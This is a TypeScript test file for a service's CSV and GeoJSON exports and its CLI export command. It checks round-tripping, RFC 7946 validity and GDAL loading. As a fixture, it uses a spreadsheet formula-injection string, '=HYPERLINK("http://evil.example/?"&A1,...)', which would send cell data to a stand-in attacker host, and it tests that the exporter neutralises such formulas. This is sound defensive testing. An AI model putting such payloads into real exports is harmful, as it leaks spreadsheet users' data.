/**
 * Exports: the list endpoints with `Accept: text/csv` or `application/geo+json`, and `guarantor export`. The CSV
 * round-trips through a real CSV parser (csv-parse) to the JSON list's values, hostile text included; the GeoJSON
 * passes an RFC 7946 checker (@placemarkio/check-geojson) and loads in GDAL (ogr2ogr, Debian's gdal-bin).
 */
import { execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { check } from '@placemarkio/check-geojson';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateKey } from '../../src/server/api-keys.js';
import { csvCell } from '../../src/server/exports.js';
import { SqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import { testServer, type TestServer } from '../support/app.js';
import { traffic } from '../support/observations.js';

const root = join(import.meta.dirname, '..', '..');
const NOW = Date.UTC(2026, 5, 23, 12);
const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click"), then "quoted", commas, a\r\nnew line; Київ — ü';

function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const p = spawn(process.execPath, [join(root, 'bin/guarantor.js'), ...args], {
      cwd: root,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    p.stdout.on('data', (d) => (stdout += d));
    p.stderr.on('data', (d) => (stderr += d));
    p.on('exit', (code) => resolve({ code: code ?? -1, stdout, stderr }));
  });
}

describe('exports', () => {
  let s: TestServer;
  let dir: string;
  let db: string;
  let url: string;

  const get = (path: string, accept?: string) =>
    s.app.inject({
      method: 'GET',
      url: path,
      headers: { authorization: s.auth.analyst, ...(accept ? { accept } : {}) },
    });
  /** Every item of a JSON list, page by page. */
  async function all(path: string): Promise<Record<string, unknown>[]> {
    const out: Record<string, unknown>[] = [];
    let cursor: string | undefined;
    do {
      const r = await get(`${path}${path.includes('?') ? '&' : '?'}limit=1000${cursor ? `&cursor=${cursor}` : ''}`);
      const body = JSON.parse(r.body) as { items: Record<string, unknown>[]; next?: string };
      out.push(...body.items);
      cursor = body.next;
    } while (cursor);
    return out;
  }

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'guarantor-export-'));
    db = join(dir, 'g.db');
    s = await testServer({ store: SqliteStore.open({ path: db }), now: NOW });
    const monitor = generateKey('*', 'monitor', 'all sources', NOW);
    await s.store.createApiKey(monitor.record);
    const obs = traffic({ events: 1200, start: Date.UTC(2026, 5, 20), gap: 2 * 60_000 });
    obs[0] = { ...obs[0]!, note: hostile };
    obs[1] = { ...obs[1]!, note: '@SUM(1+1)' };
    obs[2] = { ...obs[2]!, note: '-2+3' };
    for (let i = 0; i < obs.length; i += 500) {
      const r = await s.app.inject({
        method: 'POST',
        url: '/v1/observations',
        headers: { authorization: `Bearer ${monitor.key}`, 'content-type': 'application/json' },
        payload: obs.slice(i, i + 500),
      });
      expect(r.statusCode, r.body).toBe(200);
    }
    url = await s.app.listen({ port: 0, host: '127.0.0.1' });
  }, 180_000);

  afterAll(async () => {
    await s?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('neutralises formulas and quotes per RFC 4180', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell('x\ny')).toBe('"x\ny"');
    expect(csvCell(undefined)).toBe('');
  });

  it.each(['observations', 'incidents', 'violations', 'cases'])(
    '%s as CSV round-trip through csv-parse to the JSON list',
    async (kind) => {
      const r = await get(`/v1/${kind}`, 'text/csv');
      expect(r.statusCode).toBe(200);
      expect(r.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
      expect(r.body.endsWith('\r\n')).toBe(true);
      const rows = parse(r.body, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
      const items = await all(`/v1/${kind}`);
      expect(items.length).toBeGreaterThan(kind === 'cases' ? 3 : 100);
      expect(rows).toHaveLength(items.length);
      for (const [i, row] of rows.entries()) {
        const item = items[i]!;
        // An observation's id is its sequence number (`seq` in the JSON list).
        expect(row['id']).toBe(String(kind === 'observations' ? item['seq'] : item['id']));
        if (typeof item['time'] === 'number') expect(Date.parse(row['time']!)).toBe(item['time']);
        if (typeof item['lon'] === 'number') expect(Number(row['lon'])).toBe(item['lon']);
        if (typeof item['confidence'] === 'number') expect(Number(row['confidence'])).toBe(item['confidence']);
      }
    },
  );

  it('keeps hostile text exactly, with formulas neutralised, and filters as the JSON list does', async () => {
    const rows = parse((await get('/v1/observations?source=radar', 'text/csv')).body, { columns: true }) as Record<
      string,
      string
    >[];
    const all3 = parse((await get('/v1/observations', 'text/csv')).body, { columns: true }) as Record<string, string>[];
    expect(all3.map((r) => r['note']).filter(Boolean)).toEqual([`'${hostile}`, "'@SUM(1+1)", "'-2+3"]);
    expect(rows.every((r) => r['source'] === 'radar')).toBe(true);
    const json = await all('/v1/observations?source=radar');
    expect(rows.map((r) => Number(r['id']))).toEqual(json.map((o) => o['seq']));
    expect(rows.length).toBeGreaterThan(100);
    const v = parse(
      (await get('/v1/violations?prohibition=heavy-weapons&from=2026-06-20T12:00:00Z', 'text/csv')).body,
      { columns: true },
    ) as Record<string, string>[];
    const vj = await all('/v1/violations?prohibition=heavy-weapons&from=2026-06-20T12:00:00Z');
    expect(v.map((r) => r['id'])).toEqual(vj.map((x) => x['id']));
    expect(v.length).toBeGreaterThan(0);
    // A bad cursor or filter is still a 400, before anything streams.
    const bad = await get('/v1/violations?cursor=nonsense', 'text/csv');
    expect(bad.statusCode).toBe(400);
    expect(JSON.parse(bad.body).problems[0].path).toBe('query.cursor');
  });

  it.each(['observations', 'incidents', 'violations', 'cases'])(
    '%s as GeoJSON pass the RFC 7946 checker and load in ogr2ogr',
    async (kind) => {
      const r = await get(`/v1/${kind}`, 'application/geo+json');
      expect(r.statusCode).toBe(200);
      expect(r.headers['content-type']).toBe('application/geo+json');
      const fc = check(r.body) as unknown as {
        type: string;
        features: {
          id: string | number;
          geometry: { type: string; coordinates: unknown } | null;
          properties: Record<string, unknown>;
        }[];
      };
      const items = await all(`/v1/${kind}`);
      expect(fc.features).toHaveLength(items.length);
      const located = fc.features.filter((f) => f.geometry);
      expect(located.length).toBeGreaterThan(0);
      if (kind === 'cases') {
        expect(located.every((f) => f.geometry!.type === 'MultiPoint')).toBe(true);
        expect(located[0]!.properties['evidence']).toEqual(expect.any(Array));
      } else {
        const f = located[0]!;
        const item = items.find((x) => (kind === 'observations' ? x['seq'] : x['id']) === f.id)!;
        expect(f.geometry).toEqual({ type: 'Point', coordinates: [item['lon'], item['lat']] });
        expect(f.properties['radius']).toBe(item['radius']);
        // Region-level reports have no point: null geometry, with the region.
        if (kind === 'observations')
          expect(fc.features.some((x) => x.geometry === null && typeof x.properties['region'] === 'string')).toBe(true);
      }
      const file = join(dir, `${kind}.geojson`);
      writeFileSync(file, r.body);
      const out = join(dir, `${kind}-ogr.csv`);
      rmSync(out, { force: true });
      execFileSync('ogr2ogr', ['-f', 'CSV', out, file], { stdio: 'pipe' });
      const back = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
      expect(back).toHaveLength(items.length);
      const info = execFileSync('ogrinfo', ['-ro', '-so', '-al', file], { encoding: 'utf8' });
      expect(info).toContain(`Feature Count: ${items.length}`);
    },
  );

  it('guarantor export streams the same bytes from the store and from the server; bad input exits 2', async () => {
    const fromDb = join(dir, 'v-db.csv');
    const a = await cli(['export', 'violations', '--format', 'csv', '--db', db, '--region', 'UA-14', '--out', fromDb]);
    expect(a.code, a.stderr).toBe(0);
    const b = await cli([
      'export',
      'violations',
      '--format',
      'csv',
      '--url',
      url,
      '--api-key',
      s.keys.analyst,
      '--region',
      'UA-14',
    ]);
    expect(b.code, b.stderr).toBe(0);
    expect(readFileSync(fromDb, 'utf8')).toBe(b.stdout);
    expect((await get('/v1/violations?region=UA-14', 'text/csv')).body).toBe(b.stdout);
    const g = await cli(['export', 'cases', '--format', 'geojson', '--db', db]);
    expect(g.code, g.stderr).toBe(0);
    expect(() => check(g.stdout)).not.toThrow();
    for (const [args, message] of [
      [['export', 'weather', '--format', 'csv', '--db', db], /kind: "weather" is not something to export/],
      [['export', 'cases', '--format', 'xlsx', '--db', db], /--format: "xlsx" is not an export format/],
      [['export', 'cases', '--format', 'csv', '--db', db, '--zone', 'buffer'], /--zone: cases have no zone filter/],
      [
        ['export', 'violations', '--format', 'csv', '--db', db, '--from', 'yesterday'],
        /--from: "yesterday" is not an ISO 8601 time/,
      ],
      [
        ['export', 'violations', '--format', 'csv', '--url', url, '--api-key', s.keys.guarantor],
        /refused the violations export \(HTTP 403 forbidden: /,
      ],
      [['export', 'cases', '--format', 'csv', '--db', join(dir, 'nope.db')], /no database at .*nope\.db/],
    ] as [string[], RegExp][]) {
      const r = await cli(args);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr).toMatch(message);
    }
  }, 180_000);
});
